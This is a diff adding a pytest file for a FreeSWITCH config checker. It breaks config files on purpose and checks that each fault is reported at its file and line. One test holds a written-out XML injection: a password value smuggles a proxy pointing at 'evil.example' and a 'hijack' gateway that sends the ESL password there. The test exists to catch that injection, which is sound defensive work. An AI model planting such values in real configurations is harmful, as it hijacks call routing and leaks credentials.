@@ -1,0 +1,135 @@
+"""check-config passes on the shipped tree and names file:line for each broken copy."""
+import subprocess
+import sys
+
+import pytest
+
+from fsconf.check import main
+from tests.fsconf.conftest import CONF, DIALPLAN, REPO
+
+
+def test_shipped_tree_passes(tree):
+    assert tree.check() == []
+
+
+def test_shipped_tree_passes_through_the_cli(capsys):
+    assert main(["--conf", str(CONF), "--dialplan", str(DIALPLAN), "--socket-address", "127.0.0.1:8084"]) == 0
+    assert "check-config: OK" in capsys.readouterr().out
+
+
+def test_cli_runs_as_a_module_and_exits_1_on_problems(tree):
+    tree.edit("dialplan/public.xml", 'expression="^true$"', 'expression="^(true$"')
+    run = subprocess.run([sys.executable, "-m", "fsconf.check", "--conf", str(tree.conf),
+                          "--dialplan", str(tree.dialplan)], cwd=REPO, capture_output=True, text=True,
+                         timeout=60, env={"PATH": "/usr/bin:/bin", "VOXBRIDGE_SOCKET_ADDRESS": "127.0.0.1:8084"})
+    assert run.returncode == 1
+    assert "dialplan/public.xml:" in run.stdout and "does not compile" in run.stdout
+
+
+def _line_of(tree, relative: str, needle: str) -> int:
+    for number, line in enumerate(tree.path(relative).read_text().splitlines(), start=1):
+        if needle in line:
+            return number
+    raise AssertionError(needle)
+
+
+BROKEN = [
+    # (name, file, old, new, expected location file, text to find the line, message part)
+    ("missing include", "freeswitch/freeswitch.xml", 'data="vars.xml"', 'data="vars-missing.xml"',
+     "freeswitch/freeswitch.xml", "vars-missing.xml", "no such file"),
+    ("bad regex", "dialplan/outbound.xml", 'expression="^0?([1-9][0-9]{5,13})$"',
+     'expression="^0?([1-9][0-9]{5,13}$"', "dialplan/outbound.xml", "^0?([1-9][0-9]{5,13}$", "does not compile"),
+    ("unknown context", "dialplan/transfer.xml", 'data="$1 XML voxbridge_outbound"',
+     'data="$1 XML voxbridge_outbnd"', "dialplan/transfer.xml", "voxbridge_outbnd", "unknown context"),
+    ("profile context", "freeswitch/sip_profiles/external.xml", '<param name="context" value="public"/>',
+     '<param name="context" value="inbound"/>', "freeswitch/sip_profiles/external.xml", 'value="inbound"',
+     "profile context 'inbound' does not exist"),
+    ("hardcoded socket address", "dialplan/public.xml", 'data="$${vb_public_socket}"',
+     'data="10.9.9.9:9999 async full"', "dialplan/public.xml", "10.9.9.9:9999", "app listens on '127.0.0.1:8084'"),
+    ("socket without async full", "dialplan/public.xml", 'data="$${vb_public_socket}"',
+     'data="$${vb_socket_address}"', "dialplan/public.xml", 'data="$${vb_socket_address}"', "async full"),
+    ("missing module", "freeswitch/autoload_configs/modules.conf.xml", '<load module="mod_audio_fork"/>', "",
+     "freeswitch/autoload_configs/modules.conf.xml", '<configuration name="modules.conf"',
+     "mod_audio_fork is not loaded"),
+    ("malformed XML", "dialplan/public.xml", '<action application="answer"/>', '<action application=answer/>',
+     "dialplan/public.xml", "application=answer", "malformed XML"),
+    ("api-expansion on", "freeswitch/autoload_configs/switch.conf.xml",
+     '<param name="api-expansion" value="false"/>', '<param name="api-expansion" value="true"/>',
+     "freeswitch/autoload_configs/switch.conf.xml", '<configuration name="switch.conf"', "api-expansion"),
+    ("vanilla ESL password", "freeswitch/autoload_configs/event_socket.conf.xml",
+     'value="$${vb_esl_password}"', 'value="ClueCon"', "freeswitch/autoload_configs/event_socket.conf.xml",
+     "ClueCon", "default secret"),
+    ("unknown ACL", "freeswitch/sip_profiles/external.xml", '<param name="apply-inbound-acl" value="pbx"/>',
+     '<param name="apply-inbound-acl" value="pbxs"/>', "freeswitch/sip_profiles/external.xml", '"pbxs"',
+     "ACL list 'pbxs' is not defined"),
+    ("api function in dialplan", "dialplan/public.xml", 'field="${sip_authorized}"',
+     'field="${acl(${network_addr} carriers)}"', "dialplan/public.xml", "${acl(", "api-expansion is off"),
+    ("unset global", "dialplan/outbound.xml", "$${vb_outbound_ring_timeout}", "$${vb_ring_timeout}",
+     "dialplan/outbound.xml", "$${vb_ring_timeout}", "is not set"),
+    ("line dropped by preprocessor", "dialplan/transfer.xml", "<include>", "<include><!-- x -->",
+     "dialplan/transfer.xml", "<include>", "drops this whole line"),
+    ("unknown gateway", "dialplan/outbound.xml", 'data="sofia/gateway/${vb_gateway}/+$1"',
+     'data="sofia/gateway/nosuchgw/+$1"', "dialplan/outbound.xml", "nosuchgw", "unknown gateway 'nosuchgw'"),
+]
+
+
+@pytest.mark.parametrize("case", BROKEN, ids=[c[0] for c in BROKEN])
+def test_broken_copy_is_reported_at_its_line(tree, case):
+    _, relative, old, new, where, needle, message = case
+    tree.edit(relative, old, new)
+    problems = tree.check()
+    line = _line_of(tree, where, needle)
+    expected = f"{where}:{line}: "
+    assert any(p.startswith(expected) and message in p for p in problems), problems
+
+
+def test_socket_address_from_vars_must_match_the_app(tree):
+    # vars.xml pins an address instead of taking VOXBRIDGE_SOCKET_ADDRESS from the environment
+    tree.edit("freeswitch/vars.xml", 'data="vb_socket_address=$VOXBRIDGE_SOCKET_ADDRESS"',
+              'data="vb_socket_address=127.0.0.1:9000"')
+    tree.edit("freeswitch/vars.xml", 'cmd="env-set" data="vb_socket_address', 'cmd="set" data="vb_socket_address')
+    problems = tree.check()
+    assert any("dialplan/public.xml" in p and "'127.0.0.1:9000'" in p for p in problems), problems
+
+
+def test_missing_glob_directory_is_fine_but_missing_file_is_not(tree):
+    (tree.conf / "acl.d" / ".gitignore").unlink()
+    tree.conf.joinpath("acl.d").rmdir()
+    assert tree.check() == []
+
+
+def test_bad_cidr_in_generated_acl(tree):
+    tree.write("freeswitch/acl.d/vb_acl_x.xml",
+               '<include>\n  <list name="vb_acl_x" default="deny">\n'
+               '    <node type="allow" cidr="10.0.0.300/24"/>\n  </list>\n</include>\n')
+    assert any(p.startswith("freeswitch/acl.d/vb_acl_x.xml:3: ") and "not a CIDR" in p for p in tree.check())
+
+
+def test_injection_attempt_in_hand_written_gateway(tree):
+    # What a naive generator writes for password  x"/><param name="proxy" value="evil.example  and a
+    # second gateway smuggled in; fsconf.provision refuses such values, check-config catches the file.
+    name = "vb_gw_" + "ab" * 16
+    tree.write(f"freeswitch/sip_profiles/external/{name}.xml",
+               f'<include>\n  <gateway name="{name}">\n'
+               '    <param name="proxy" value="pbx.example.com"/>\n'
+               '    <param name="username" value="u"/>\n'
+               '    <param name="password" value="x"/><param name="proxy" value="evil.example"/>\n'
+               '  </gateway>\n'
+               '  <gateway name="hijack">\n'
+               '    <param name="proxy" value="evil.example"/>\n'
+               '    <param name="username" value="$${vb_esl_password}"/>\n'
+               '  </gateway>\n</include>\n')
+    problems = tree.check()
+    where = f"freeswitch/sip_profiles/external/{name}.xml"
+    assert any(p.startswith(f"{where}:5: ") and "param 'proxy' repeated" in p for p in problems), problems
+    assert any(p.startswith(f"{where}:7: ") and "defines gateway 'hijack'" in p for p in problems), problems
+    assert any(p.startswith(f"{where}:9: ") and "global variable" in p for p in problems), problems
+
+
+def test_duplicate_user_alias(tree):
+    for n in (1, 2):
+        tree.write(f"freeswitch/directory/voxbridge/vb_user_{n}.xml",
+                   f'<include>\n  <user id="vb_user_{n}" number-alias="pbx">\n'
+                   '    <params><param name="password" value="abc"/></params>\n  </user>\n</include>\n')
+    assert any(p.startswith("freeswitch/directory/voxbridge/vb_user_2.xml:2: ") and "'pbx' already used" in p
+               for p in tree.check())
